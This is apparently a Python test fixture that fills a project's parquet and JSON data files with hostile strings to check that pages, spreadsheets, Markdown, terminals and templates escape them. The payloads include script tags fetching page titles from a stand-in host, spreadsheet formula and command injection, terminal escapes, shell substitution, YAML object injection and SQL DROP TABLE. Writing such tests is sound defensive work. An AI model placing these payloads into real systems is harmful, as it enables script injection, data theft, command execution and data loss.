"""Labels that attack whoever shows them: pages, spreadsheets, Markdown, terminals, templates
and databases.
"""

import json
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

AWAY = "http://evil.invalid"  # nothing may ever be asked there
LABELS = [
    # pages
    f"<script>fetch('{AWAY}/' + document.title)</script>",
    "<img src=x onerror=alert(1)>",
    f'<img src="{AWAY}/x.png"><iframe src="{AWAY}"></iframe>',
    '"><svg/onload=alert(1)>',
    "' onmouseover='alert(1)' x='",
    "</title></style></textarea></script><script>alert(1)</script>",
    "]]><script>alert(1)</script><!-- -->",
    "<!--<script>",
    f"<style>@import url({AWAY}/x.css); * {{ display: none }}</style><base href={AWAY}><meta http-equiv=refresh>",
    "&lt;b&gt; &amp; &#60;script&#62;",
    # spreadsheets
    f'=HYPERLINK("{AWAY}/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*2",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    # Markdown
    "[link](javascript:alert(1))",
    f"![image]({AWAY}/x.png)",
    f"<{AWAY}> {AWAY}",
    "a | b | c",
    "`code` ```\nfence",
    "# heading\n---\n* item",
    # terminals
    "\x1b[2J\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    f"\x1b]8;;{AWAY}\x1b\\link\x1b]8;;\x1b\\",
    "\x9b2J \x9d0;title\x9c \x90q\x9c",
    "one\x00two",
    "back\x08\x08\x08\x08\x7f\x0b\x0c\x0e\x1a",
    "error: all is well\nanswer: yes",
    "over\rwritten\x85next",
    "one\r\ntwo\r",
    # what is not seen, or seen in another order
    "\u202egnp.exe\u202c \u200f\u061c\u2066isolate\u2069 \u202bembedded",
    "zero\u200bwidth\ufeff\u2060\u00ad \U000e0041\U000e007f",
    "line\u2028paragraph\u2029end",
    "a" + "\u0301" * 300,
    # templates, formats, databases
    "{x} {title} {text} {} {0} {",
    "%s %n %(x)s %",
    "{{ 7 * 7 }} {% include 'x' %} {# c #}",
    "${HOME} $(id) `id` ; id",
    "!!python/object:os.system [yaml: {",
    "'; DROP TABLE popqa; --",
    'O\'Brien "quoted" \\',
    "\\u202e \\x1b[2J \\n \\ud800",
    # sizes and scripts that are right
    "x" * 10_000,
    "long words " * 900,
    "الاسم العربي 12",
    "\u0646\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 \U0001f469\u200d\U0001f469\u200d\U0001f467",
    "\U0001d11e\uffff\ue000 \ufdd0",
]
STEERING = r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e007f]"


def spoil(data: Path) -> None:
    """Put LABELS wherever text from elsewhere stands in the tables of
    `small_results.write_data`.
    """
    replace(data / "questions/popqa/popqa.parquet", "subj", "question", "possible_answers")
    for file in data.glob("predictions/**/*.parquet"):
        replace(file, "prediction", "doc_title", "doc_id", "passage")
    for file in data.glob("corpus/*/docs.parquet"):
        replace(file, "title", "text", "source")
    for file in data.glob("**/rejects.parquet"):
        rows = [{"file": label, "row": 1, "reason": label, "detail": label} for label in LABELS]
        pq.write_table(pa.Table.from_pylist(rows, pq.read_schema(file)), file)
    entry = {"dataset": "c4", "bytes": 12, "sha256": ""}
    files = [entry | {"path": label, "source": label, "licence": label} for label in LABELS]
    (data / "raw/manifest.json").write_text(json.dumps(files), encoding="utf-8")
    for file in data.glob("metrics/language_modelling_*.json"):
        figures = json.loads(file.read_text(encoding="utf-8"))
        for of_lm in figures.values():
            of_lm["subsets"] = dict.fromkeys(LABELS, of_lm["subsets"]["CC"])
        file.write_text(json.dumps(figures), encoding="utf-8")


def replace(file: Path, *names: str) -> None:
    """Put LABELS into columns of a table, where the table has them."""
    table = pq.read_table(file)
    for name in set(names) & set(table.column_names):
        field, place = table.schema.field(name), table.column_names.index(name)
        texts = [LABELS[row % len(LABELS)] for row in range(len(table))]
        texts = [[text, text[::-1]] for text in texts] if pa.types.is_list(field.type) else texts
        table = table.set_column(place, field, pa.array(texts, field.type))
    pq.write_table(table, file)
